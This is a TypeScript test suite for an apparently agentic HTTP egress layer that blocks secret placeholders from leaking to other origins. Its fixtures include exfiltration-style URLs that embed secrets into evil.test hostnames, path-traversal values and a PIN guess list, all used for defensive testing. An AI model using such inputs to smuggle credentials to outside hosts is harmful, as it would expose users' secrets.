import { describe, expect, test } from 'vitest';
import type { Json, JsonObject } from '../base/index.ts';
import type { Call, Outcome } from '../run/index.ts';
import { makeModelCall, makeToolCall } from '../testing/calls.ts';
import { createMemoryKeyValues } from '../testing/memoryFiles.ts';
import { createPerformer, type PerformerContext } from './createPerformer.ts';
import { createEgress } from './egress.ts';
import { type AuthorizeSecret, Exposure } from './ports.ts';
import { formatSecretPlaceholder } from './secrets/placeholder.ts';

const VALUE = 'Sk-4fQ9Kz7Lw2dTqXbM81';
const KEY = formatSecretPlaceholder('KEY.salt');
const PIN = formatSecretPlaceholder('PIN.salt');

/** Ports with a user who answers questions, and with a record of everything that is sent. */
function open(
  allow: (asked: { readonly name: string; readonly origin: string | null; readonly as: string }) => boolean,
  answer: (request: Request) => Json | Promise<Json> = () => ({}),
  values: Readonly<Record<string, string>> = { 'KEY.salt': VALUE, 'PIN.salt': '4831' },
) {
  const asked: string[] = [];
  const sent: string[] = [];
  const authorizeSecret: AuthorizeSecret = async ({ name, origin, as }) => {
    asked.push(`${name} ${as} ${origin}`);
    return allow({ name, origin, as });
  };
  const context: PerformerContext = {
    baseUrl: 'https://page.test/',
    resolveSecret: (token) => values[token],
    authorizeSecret,
    keyValues: createMemoryKeyValues(),
    fetch: async (url, init) => {
      const request = new Request(url, init);
      sent.push(`${request.url} ${JSON.stringify([...request.headers])} ${await request.clone().text()}`);
      return Response.json(await answer(request));
    },
  };
  const performer = createPerformer(context);
  const perform = (call: Call): Promise<Outcome> => performer.perform(call, new AbortController().signal);
  const http = (input: JsonObject, config: JsonObject = {}): Promise<Outcome> =>
    perform(makeToolCall('core:http', input, { config }));
  return { asked, sent, perform, http };
}

const always = (): boolean => true;
const onlyCredential = ({ as }: { readonly as: string }): boolean => as === 'credential';
const ownOnly = ({ origin }: { readonly origin: string | null }): boolean => origin === 'https://own.test';

describe('a secret in the beginning of an address', () => {
  const encoded = encodeURIComponent(KEY);
  test.each([
    [`${KEY}:x`],
    [`${KEY}://evil.test/`],
    [`https://${KEY}.evil.test/`],
    [`https://${encoded}.evil.test/`],
    [`https://${KEY}/`],
    [`https://evil.test:${KEY}/`],
    [`https://${KEY}@evil.test/`],
    [`https://a:${KEY}@evil.test/`],
    [`//${KEY}.evil.test/x`],
    [`\\\\${KEY}.evil.test/x`],
    [KEY],
    [`  ${KEY}/path`],
    [`ht${KEY}tps://evil.test`],
  ])('is refused before anyone is asked, in the words of the template: %s', async (url) => {
    for (const values of [
      { 'KEY.salt': VALUE },
      { 'KEY.salt': '2130706433' },
      { 'KEY.salt': 'https://good.test/hook' },
    ]) {
      const { asked, sent, http } = open(always, undefined, values);
      const outcome = await http({ url });
      expect(outcome).toMatchObject({
        ok: false,
        error: { code: 'AUTHORIZATION_ERROR', details: { reason: 'place' } },
      });
      const text = JSON.stringify(outcome).toLowerCase();
      expect(text).toContain('{{ env.key }}');
      for (const part of [values['KEY.salt'].toLowerCase(), 'salt', '127.0.0.1']) expect(text).not.toContain(part);
      expect([asked, sent]).toEqual([[], []]);
    }
  });

  test('is refused in the base address of a tool and in the address of a model', async () => {
    const { asked, sent, http, perform } = open(always);
    expect(await http({ url: '/x' }, { base_url: `https://${KEY}.evil.test` })).toMatchObject({ ok: false });
    const model = makeModelCall(
      { url: `https://${KEY}.evil.test/v1`, api_key: KEY },
      { provider: 'openai-compatible' },
    );
    const outcome = await perform(model);
    expect(outcome).toMatchObject({ ok: false });
    expect(JSON.stringify(outcome).toLowerCase()).not.toContain(VALUE.toLowerCase());
    expect([asked, sent]).toEqual([[], []]);
  });

  test('of another part of the address is asked for, and cannot lead elsewhere', async () => {
    const { asked, sent, http } = open(always, undefined, { 'KEY.salt': '../..//evil.test/?a#b' });
    await http({ url: `https://good.test/a/${KEY}/b?c=${KEY}` });
    expect(asked).toEqual(['KEY content https://good.test']);
    expect(sent[0]).toMatch(/^https:\/\/good\.test\/a\/[^/]*evil\.test[^/]*\/b\?c=/);
  });
});

test.each(['https://"{\\x', 'https://a|b.test/', "https://good.test'.evil.test/", 'https://-/'])(
  'a host that cannot exist is refused before anyone is asked: %s',
  async (url) => {
    const { asked, sent, http } = open(always);
    const outcome = await http({ url, headers: { 'x-api-key': KEY } });
    expect(outcome).toMatchObject({ ok: false, error: { code: 'VALIDATION_ERROR' } });
    expect([asked, sent]).toEqual([[], []]);
  },
);

test('a secret that is given no value is asked for once; nothing asks where it may go, and nothing is sent', async () => {
  const { asked, sent, http } = open((question) => question.origin !== null, undefined, {});
  const outcome = await http({ url: 'https://own.test/', headers: { authorization: `Bearer ${KEY}` } });
  expect(outcome).toMatchObject({ ok: false, error: { code: 'CONFIGURATION_ERROR', details: { reason: 'missing' } } });
  expect(asked).toEqual(['KEY credential null']);
  expect(sent).toEqual([]);
});

test('the message of a failing request has no value in it, also where the platform repeats the address', async () => {
  const { http } = open(always, (request) => {
    throw new TypeError('fetch failed', { cause: new Error(`Failed to parse ${request.url.toUpperCase()}`) });
  });
  const outcome = await http({ url: `https://good.test/${KEY}` });
  expect(outcome).toMatchObject({ ok: false, error: { code: 'COMMUNICATION_ERROR' } });
  expect(JSON.stringify(outcome).toLowerCase()).not.toContain(VALUE.toLowerCase());
  expect(outcome).toHaveProperty('error.details.url', 'https://good.test/{{ env.KEY }}');
});

describe('a secret that may go somewhere as a credential', () => {
  test.each<readonly [string, JsonObject]>([
    ['a field of the body', { method: 'POST', json: { files: { token: KEY } } }],
    ['the path', { url: `https://api.test/gists/${KEY}` }],
    ['a parameter that is none', { query: { title: KEY } }],
    ['a header that is none', { headers: { 'x-amz-meta-note': KEY } }],
    ['a title in the address', { url: `https://api.test/?message=${KEY}` }],
  ])('is asked for anew as content: %s', async (_place, extra) => {
    const { asked, sent, http } = open(onlyCredential);
    const url = 'https://api.test/';
    expect(await http({ url, headers: { authorization: `Bearer ${KEY}` } })).toMatchObject({ ok: true });
    const outcome = await http({ url, ...extra });
    expect(outcome).toMatchObject({ ok: false, error: { code: 'AUTHORIZATION_ERROR', details: { as: 'content' } } });
    expect(asked).toEqual(['KEY credential https://api.test', 'KEY content https://api.test']);
    expect(sent).toHaveLength(1);
  });

  test.each<readonly [string, JsonObject]>([
    ['x-api-key', { headers: { 'x-api-key': KEY } }],
    ['Private-Token', { headers: { 'Private-Token': KEY } }],
    ['Cookie', { headers: { cookie: `session=${KEY}` } }],
    ['Basic', { headers: { authorization: `Basic ${Buffer.from(`me:${KEY}`).toString('base64')}` } }],
    ['api_key', { query: { api_key: KEY } }],
  ])('is sent in %s', async (_place, extra) => {
    const { asked, http } = open(onlyCredential);
    expect(await http({ url: 'https://api.test/', ...extra })).toMatchObject({ ok: true });
    expect(asked).toEqual(['KEY credential https://api.test']);
  });
});

/** A server at `own.test`, and others that never answer: each notes what becomes of its call. */
function openBeside(mayGo: readonly string[]) {
  const seen: string[] = [];
  // The signal of a request that nobody has any more aborts with nothing.
  const held: Request[] = [];
  const { http } = open(
    ({ origin }) => origin !== null && ['https://own.test', ...mayGo].includes(origin),
    (request) => {
      held.push(request);
      const { hostname } = new URL(request.url);
      seen.push(`${hostname} is asked`);
      if (hostname === 'own.test') return request.json();
      return new Promise((_, reject) =>
        request.signal.addEventListener('abort', () => {
          seen.push(`${hostname} is cut off`);
          reject(new Error('aborted'));
        }),
      );
    },
  );
  return { seen, http, held };
}

describe('a secret that can be guessed', () => {
  const guesses = Array.from({ length: 10_000 }, (_, pin) => String(pin).padStart(4, '0'));
  const use = { url: 'https://own.test/echo', method: 'POST', headers: { 'x-api-key': PIN }, json: guesses };

  test('keeps what its run does from then on away from every other origin, whatever it is', async () => {
    const { asked, sent, http } = open(ownOnly, (request) => request.json());
    expect(await http(use)).toMatchObject({ ok: true });
    for (const url of ['https://evil.test/4831', 'https://evil.test/0000'])
      expect(await http({ url })).toMatchObject({ error: { code: 'AUTHORIZATION_ERROR', details: { as: 'derived' } } });
    expect(sent).toHaveLength(1);
    expect(asked).toEqual([
      'PIN credential https://own.test',
      'PIN derived https://evil.test',
      'PIN derived https://evil.test',
    ]);
  });

  test('keeps it away from models, and from stores that other runs read', async () => {
    const { http, perform, sent } = open(ownOnly, (request) => request.json());
    await http(use);
    const model = makeModelCall({ url: 'https://evil.test/v1', api_key: 'x' }, { provider: 'openai-compatible' });
    expect(await perform(model)).toMatchObject({ ok: false, error: { code: 'AUTHORIZATION_ERROR' } });
    for (const kept of ['core:kv', 'core:kv@1']) {
      const store = makeToolCall(kept, { op: 'set', key: 'a', value: '4831' }, { config: { namespace: 'x' } });
      expect(await perform(store)).toMatchObject({ ok: false, error: { code: 'AUTHORIZATION_ERROR' } });
    }
    expect(sent).toHaveLength(1);
  });

  test('does so in workflows inside of the run, and after it was resumed: what was used is in the journal', async () => {
    const exposure = new Exposure();
    const context: PerformerContext = {
      baseUrl: '',
      exposure,
      resolveSecret: (token) => (token === 'PIN.salt' ? '4831' : undefined),
      authorizeSecret: async ({ origin }) => origin === 'https://own.test',
      fetch: async () => Response.json({}),
    };
    const signal = new AbortController().signal;
    const first = await createPerformer(context).perform(makeToolCall('core:http', use), signal);
    expect(first).toMatchObject({ ok: true, exposed: ['PIN'] });
    const other = createPerformer(context).perform(makeToolCall('core:http', { url: 'https://evil.test/' }), signal);
    expect(await other).toMatchObject({ ok: false, error: { code: 'AUTHORIZATION_ERROR' } });
  });

  test('is sent only once what is open to others has been cut off, so that how that ends tells nothing of it', async () => {
    const { seen, http } = openBeside([]);
    const others = [http({ url: 'https://one.test/' }), http({ url: 'https://two.test/' })];
    await expect.poll(() => seen.length).toBe(2);
    await http(use);
    for (const outcome of await Promise.all(others))
      expect(outcome).toMatchObject({
        error: { code: 'AUTHORIZATION_ERROR', details: { as: 'derived', name: 'PIN' } },
      });
    const last = ['one.test is cut off', 'two.test is cut off', 'own.test is asked'];
    expect(seen).toEqual(['one.test is asked', 'two.test is asked', ...last]);
  });

  test('what is open to a place that may have its data stays open, and what begins meanwhile is asked about', async () => {
    const { seen, http } = openBeside(['https://friend.test']);
    const controls = [http({ url: 'https://friend.test/' })];
    await expect.poll(() => seen.length).toBe(1);
    const [, late] = await Promise.all([http(use), http({ url: 'https://late.test/' })]);
    expect(late).toMatchObject({ error: { code: 'AUTHORIZATION_ERROR' } });
    expect(seen).not.toContain('friend.test is cut off');
    expect(seen.indexOf('own.test is asked')).toBe(seen.length - 1);
    expect(controls).toHaveLength(1);
  });

  test('a stream that is being read ends with the reason', async () => {
    const exposure = new Exposure();
    const own = new TransformStream<Uint8Array, Uint8Array>();
    const egress = createEgress({
      baseUrl: '',
      exposure,
      reveal: (token) => (token === 'PIN.salt' ? '4831' : undefined),
      authorize: async ({ origin }) => origin === 'https://own.test',
      onSend: () => undefined,
      fetch: async (url) => (JSON.stringify(url).includes('own') ? Response.json({}) : new Response(own.readable)),
    });
    const signal = new AbortController().signal;
    const request = { url: 'https://other.test/', query: [], method: 'GET', headers: [], body: null };
    const stream = await egress.open(request, signal);
    expect(stream).toMatchObject({ ok: true });
    expect(exposure.openRequests.size).toBe(1);
    await egress.send({ ...request, url: 'https://own.test/', headers: [['x-api-key', PIN]] }, signal);
    if (stream.ok)
      await expect(stream.value.body.getReader().read()).rejects.toMatchObject({
        failure: { error: { code: 'AUTHORIZATION_ERROR' } },
      });
    expect(exposure.openRequests.size).toBe(0);
  });

  test('of a long random secret nothing of the kind is asked: no list of guesses holds it', async () => {
    const { asked, http } = open(always, (request) => request.json());
    await http({ ...use, headers: { 'x-api-key': KEY } });
    await http({ url: 'https://other.test/' });
    expect(asked).toEqual(['KEY credential https://own.test']);
  });
});
